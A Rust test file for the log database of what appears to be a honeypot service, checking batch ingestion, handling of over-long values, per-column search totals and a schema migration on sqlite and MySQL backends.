        let buckets = db.log_histogram(&between(Some(1), Some(3), ""), 1).await.unwrap();
        assert_eq!(buckets.iter().map(|b| b.count).collect::<Vec<_>>(), [1, 1, 1]);
        // Alignment is to the epoch, not to the first row.
        let odd = LogFilter { since: Some(at(1)), ..LogFilter::default() };
        let buckets = db.log_histogram(&odd, 60).await.unwrap();
        assert_eq!(buckets.iter().map(|b| (b.start, b.count)).collect::<Vec<_>>(), [(at(0), 7)]);
        assert!(db.log_histogram(&between(None, None, "decky:none"), 15).await.unwrap().is_empty());

        // `Unknown` is not an attacker.
        let stats = db.log_stats().await.unwrap();
        assert_eq!(stats, LogStats { total_logs: 8, unique_attackers: 4 });
        db.close().await;
    }
}

#[tokio::test]
async fn a_batch_larger_than_one_statement_commits_whole() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        hold_lease(&db, "a").await;
        // 5,000 lines of 4 KiB: 20 MiB, over MariaDB's default packet of 16 MiB and over sqlite's
        // bound variables in one statement.
        let long = "x".repeat(4096);
        let logs: Vec<NewLog> = (0..5000)
            .map(|i| {
                let mut log = new_log(
                    t0() + Duration::milliseconds(i),
                    "d",
                    "s",
                    "e",
                    &format!("10.1.{}.{}", i / 256, i % 256),
                    &long,
                );
                log.fields = format!(r#"{{"n":"{i}"}}"#);
                log
            })
            .collect();
        let bounties: Vec<NewBounty> =
            (0..3000).map(|i| new_bounty("10.0.0.1", "fingerprint", &format!(r#"{{"n":{i}}}"#))).collect();
        let credentials: Vec<NewCredential> =
            (0..3000).map(|i| new_credential("10.0.0.1", Some("root"), &format!("{i:x}"), t0())).collect();
        let big = IngestBatch { logs, bounties, credentials, cursor: Some(cursor(5000 * 4097)), host_uuid: None };
        let done = db.commit_ingest(SOURCE, "a", None, &big).await.unwrap();
        assert_eq!((done.logs, done.new_bounties, done.new_credentials), (5000, 3000, 3000), "{}", backend.name);
        let page = all_logs(&db).await;
        assert_eq!(page.total, 5000);
        let filter = LogFilter { terms: parse_search("n:4999"), ..LogFilter::default() };
        let last = db.logs(&filter, 10, 0).await.unwrap();
        assert_eq!(last.total, 1);
        assert_eq!(last.rows[0].raw_line.len(), 4096);
        assert_eq!(last.rows[0].id, done.last_log_id);
        assert_eq!(db.log_stats().await.unwrap().unique_attackers, 5000);
        assert_eq!(db.bounties(&BountyFilter::default(), 1, 0).await.unwrap().total, 3000);
        assert_eq!(db.ingest_cursor(SOURCE).await.unwrap(), Some(cursor(5000 * 4097)));
        db.close().await;
    }
}

#[tokio::test]
async fn over_long_values_do_not_fail_a_batch() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        hold_lease(&db, "a").await;
        // Lines come from hostile traffic: a value wider than a column must not wedge ingestion.
        let wide = "é".repeat(300);
        let mut log = new_log(t0(), &wide, &wide, &wide, &wide, "raw");
        log.msg = Some(wide.clone());
        let mut bounty = new_bounty(&wide, &wide, "{}");
        bounty.decky = wide.clone();
        let mut credential = new_credential(&wide, Some(&wide), "aa", t0());
        credential.secret_kind = wide.clone();
        credential.outcome = Some(wide.clone());
        let wide_batch = IngestBatch {
            logs: vec![log],
            bounties: vec![bounty],
            credentials: vec![credential],
            cursor: Some(cursor(1)),
            host_uuid: None,
        };
        let done = db.commit_ingest(SOURCE, "a", None, &wide_batch).await.unwrap();
        assert_eq!((done.logs, done.new_bounties, done.new_credentials), (1, 1, 1), "{}", backend.name);
        let stored = &all_logs(&db).await.rows[0];
        // MySQL keeps the first 255 characters of its indexed columns; sqlite keeps everything.
        assert!(stored.decky.chars().count() >= 255 && wide.starts_with(&stored.decky));
        assert_eq!(stored.msg.as_deref(), Some(wide.as_str()));
        let credential = &db.credentials(&Default::default(), 1, 0).await.unwrap().rows[0];
        assert_eq!(credential.principal.as_deref(), Some(wide.as_str()));
        // The same again is a repeat, not a new row, even where the stored values were cut.
        let done = db
            .commit_ingest(SOURCE, "a", Some(&cursor(1)), &IngestBatch { cursor: Some(cursor(2)), ..wide_batch })
            .await
            .unwrap();
        assert_eq!((done.new_bounties, done.new_credentials), (0, 0));
        assert_eq!(db.credentials(&Default::default(), 1, 0).await.unwrap().rows[0].attempt_count, 2);
        db.close().await;
    }
}

// ---------------------------------------------------------------------------------------------
// The totals of a one-column search (`service:ssh`), read from the counters the ingest transaction
// keeps instead of counted.

const OTHER_SOURCE: &str = "/var/log/svc/other.log";

/// What a one-column search finds: the total it reports, and that total counted two other ways.
/// The page holds every matching row (the select itself, not the total); the same term with an
/// always-true time range forces a real count over the logs, as only an unbounded one-term search
/// reads the counters.
async fn column_total(db: &Db, column: LogColumn, value: &str) -> (u64, usize, u64) {
    let term = vec![SearchTerm::Column(column, value.to_string())];
    let page = db.logs(&LogFilter { terms: term.clone(), ..LogFilter::default() }, 10_000, 0).await.unwrap();
    let always = LogFilter {
        terms: term,
        since: Some(t0() - Duration::days(3650)),
        until: Some(t0() + Duration::days(3650)),
        ..LogFilter::default()
    };
    let counted = db.logs(&always, 1, 0).await.unwrap().total;
    (page.total, page.rows.len(), counted)
}

/// Asserts that every one-column search over `values` reports the number of rows it matches.
async fn assert_column_totals(db: &Db, backend: &str, values: &[(LogColumn, String)]) {
    for (column, value) in values {
        let (total, rows, counted) = column_total(db, *column, value).await;
        assert_eq!((total, total), (rows as u64, counted), "{backend} {column:?} = {value:?}");
    }
}

/// Rows of every kind the counters must tell apart or merge: letter case and trailing spaces
/// (one value on MySQL/MariaDB, several on sqlite), an address no one searches, a value wider than
/// MySQL's column.
fn varied_logs(first: i64, n: i64) -> Vec<NewLog> {
    let wide = "é".repeat(300);
    (first..first + n)
        .map(|i| {
            let decky = ["ssh-01", "web-01", "SSH-01", wide.as_str()][(i % 4) as usize];
            let service = ["ssh", "http", "SSH", "ssh ", "ftp"][(i % 5) as usize];
            let event_type = ["login", "request", "Login"][(i % 3) as usize];
            let attacker_ip = ["10.0.0.1", "10.0.0.2", "Unknown", "10.0.0.1 "][(i % 7 % 4) as usize];
            new_log(t0() + Duration::seconds(i), decky, service, event_type, attacker_ip, &format!("line {i}"))
        })
        .collect()
}

/// Every value `varied_logs` stores, their variants, and values never stored.
fn searched_values() -> Vec<(LogColumn, String)> {
    let wide = "é".repeat(300);
    let clipped = "é".repeat(255);
    let mut values = vec![];
    for decky in ["ssh-01", "SSH-01", "Ssh-01", "web-01", "web-01 ", "ssh", "", wide.as_str(), clipped.as_str()] {
        values.push((LogColumn::Decky, decky.to_string()));
    }
    for service in ["ssh", "SSH", "ssh ", " ssh", "http", "HTTP", "ftp", "telnet", ""] {
        values.push((LogColumn::Service, service.to_string()));
    }
    for event_type in ["login", "Login", "LOGIN", "request", "command"] {
        values.push((LogColumn::EventType, event_type.to_string()));
    }
    for attacker_ip in ["10.0.0.1", "10.0.0.1 ", "10.0.0.2", "Unknown", "unknown", "10.0.0.3"] {
        values.push((LogColumn::AttackerIp, attacker_ip.to_string()));
    }
    values
}

#[tokio::test]
async fn one_column_totals_match_the_rows_from_two_sources() {
    for backend in TestDb::all() {
        let db = backend.open().await;
        let values = searched_values();
        assert_column_totals(&db, backend.name, &values).await;
        for source in [SOURCE, OTHER_SOURCE] {
            assert!(db.acquire_worker_lease(source, "a", Utc::now(), TTL).await.unwrap());
        }
        let mut cursors: [Option<IngestCursor>; 2] = [None, None];
        let mut first = 0;
        // Batches of both sources in turn, of sizes that spread each value over both.
        for (round, n) in [7, 11, 13, 5, 17, 3].into_iter().enumerate() {
            let (source, slot) = if round % 2 == 0 { (SOURCE, 0) } else { (OTHER_SOURCE, 1) };
            let next = cursor(round as u64 + 1);
            let batch = batch(varied_logs(first, n), Some(next.clone()));
            db.commit_ingest(source, "a", cursors[slot].as_ref(), &batch).await.unwrap();
            cursors[slot] = Some(next);
            first += n;
            assert_column_totals(&db, backend.name, &values).await;
        }
        let stored = varied_logs(0, first);
        let written = |service: &str| stored.iter().filter(|log| log.service == service).count() as u64;
        let (ssh, _, _) = column_total(&db, LogColumn::Service, "ssh").await;
        let (upper, _, _) = column_total(&db, LogColumn::Service, "SSH").await;
        assert_eq!(column_total(&db, LogColumn::Service, "telnet").await.0, 0);
        if backend.name == "mysql" {
            // The logs' collation (utf8mb4_unicode_ci) makes `ssh`, `SSH` and `ssh ` one value.
            let all = written("ssh") + written("SSH") + written("ssh ");
            assert_eq!((ssh, upper), (all, all));
        } else {
            assert_eq!((ssh, upper), (written("ssh"), written("SSH")));
        }
        db.close().await;
    }
}

/// Rows stored by a version before the column counters: their totals are right once it migrates.
#[tokio::test]
async fn the_column_counters_count_the_rows_stored_before_them() {
    const COLUMN_TOTALS: i64 = 20261204000001;
    for backend in TestDb::all() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("migrations").join(backend.name);
        let mut before = sqlx::migrate::Migrator::new(dir).await.unwrap();
        assert!(before.iter().any(|m| m.version == COLUMN_TOTALS), "the counters' migration is {COLUMN_TOTALS}");
        before.migrations = before.migrations.iter().filter(|m| m.version < COLUMN_TOTALS).cloned().collect();
        let rows = varied_logs(0, 40);
        match backend.mysql_url() {
            Some(url) => {
                use sqlx::migrate::MigrateDatabase;
                sqlx::MySql::create_database(url).await.unwrap();
                let mut conn = <sqlx::MySqlConnection as sqlx::Connection>::connect(url).await.unwrap();
                before.run(&mut conn).await.unwrap();
                for log in &rows {
                    // As the ingester stored rows then: indexed values cut to 255 characters.
                    let cut = |text: &str| text.chars().take(255).collect::<String>();
                    sqlx::query(OLD_INSERT)
                        .bind(log.timestamp.timestamp_millis())
                        .bind(cut(&log.decky))
                        .bind(cut(&log.service))
                        .bind(cut(&log.event_type))
                        .bind(cut(&log.attacker_ip))
                        .bind(&log.raw_line)
                        .execute(&mut conn)
                        .await
                        .unwrap();
                }
                sqlx::Connection::close(conn).await.unwrap();
            }
            None => {
                let path = backend.vars().into_iter().find(|(k, _)| k == "SVC_DB_PATH").unwrap().1;
                let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&path).create_if_missing(true);
                let mut conn = <sqlx::SqliteConnection as sqlx::Connection>::connect_with(&options).await.unwrap();
                before.run(&mut conn).await.unwrap();
                for log in &rows {
                    sqlx::query(OLD_INSERT)
                        .bind(log.timestamp.timestamp_millis())
                        .bind(&log.decky)
                        .bind(&log.service)
                        .bind(&log.event_type)
                        .bind(&log.attacker_ip)
                        .bind(&log.raw_line)
                        .execute(&mut conn)
                        .await
                        .unwrap();
                }
                sqlx::Connection::close(conn).await.unwrap();
            }
        }
        let db = backend.open().await;
        let values = searched_values();
        let (_, _, counted) = column_total(&db, LogColumn::Service, "ssh").await;
        assert!(counted > 0, "{}: rows were stored before the migration", backend.name);
        assert_column_totals(&db, backend.name, &values).await;
        // The ingester's counts add to the migrated ones.
        hold_lease(&db, "a").await;
        db.commit_ingest(SOURCE, "a", None, &batch(varied_logs(40, 23), Some(cursor(1)))).await.unwrap();
        assert_column_totals(&db, backend.name, &values).await;
        db.close().await;
    }
}

/// How the ingester stored a log row before the column counters.
const OLD_INSERT: &str = "insert into logs (timestamp, decky, service, event_type, attacker_ip, raw_line, fields) values (?, ?, ?, ?, ?, ?, '{}')";
